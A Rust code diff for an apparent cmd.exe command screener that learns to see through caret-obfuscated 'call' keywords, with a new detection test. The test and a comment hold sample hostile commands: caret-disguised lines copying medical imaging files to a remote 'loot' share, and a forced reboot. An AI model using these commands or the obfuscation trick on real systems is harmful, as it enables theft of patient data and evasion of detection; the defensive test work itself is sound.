@@ -6489,7 +6489,7 @@ fn program_start_and_set_command(line: &[u8]) -> ProgramStart {
                 .unwrap_or(line.len() - at);
         let word = &line[at..word_end];
         let command = || &line[..at + command_len(&line[at..])];
-        if word.eq_ignore_ascii_case(b"call") {
+        if is_call_word(word) {
             at = word_end;
         } else if word.eq_ignore_ascii_case(b"if") {
             // A condition cmd.exe cannot read is a syntax error: nothing runs.
@@ -7166,7 +7166,34 @@ struct ExpandedArguments {
 fn is_called(before: &[u8]) -> bool {
     before
         .split(|&b| is_token_delimiter(b) || matches!(b, b'@' | b'(' | b'\r'))
-        .any(|word| word.eq_ignore_ascii_case(b"call"))
+        .any(is_call_word)
+}
+
+/// Whether `word` is the keyword `call` as cmd.exe recognises it: carets outside quotes
+/// are removed first, so `c^a^l^l` is `call` (review rv43-screen, case3:
+/// `c^a^l^l copy C:\PACS\*.dcm \\host\loot` was clean). A quote makes it a
+/// program's name, never the keyword; a caret escapes the byte after it (`^^` is a
+/// caret, so `c^^all` is no `call`), and one at its end the delimiter after it, which
+/// makes the word longer than `call`.
+fn is_call_word(word: &[u8]) -> bool {
+    if word.contains(&b'"') {
+        return false;
+    }
+    let mut letters = Vec::with_capacity(4);
+    let mut bytes = word.iter();
+    while let Some(&b) = bytes.next() {
+        let letter = if b == b'^' {
+            bytes.next().copied()
+        } else {
+            Some(b)
+        };
+        // An escaped delimiter at the end, or more than four letters: no `call`.
+        match letter {
+            Some(letter) if letters.len() < 4 => letters.push(letter),
+            _ => return false,
+        }
+    }
+    letters.eq_ignore_ascii_case(b"call")
 }
 
 /// [`expand_arguments_pass`] as cmd.exe expands the line of a command: once, or for a
@@ -11091,5 +11118,22 @@ mod lolbin_tests {
                 || ARGUED_BATCH.contains(&tool);
             assert!(ruled, "{}", String::from_utf8_lossy(tool));
         }
+    }
+
+    /// Review rv43-screen (issue 10, case3): cmd.exe removes carets outside quotes
+    /// before it recognises `call`, so `c^a^l^l copy …` calls `copy`.
+    #[test]
+    fn carets_in_call_are_removed_before_it_is_recognised() {
+        assert_alerts(
+            &[
+                "c^a^l^l copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "c^all shutdown /r /t 0",
+                "@c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "if 1==1 c^all copy C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "call shutdown /r /t 0",
+            ],
+            &[false, true],
+        );
+        assert_clean(&["c^all the ward", "\"c^all\" copy a b", "c^^all copy a b"]);
     }
 }
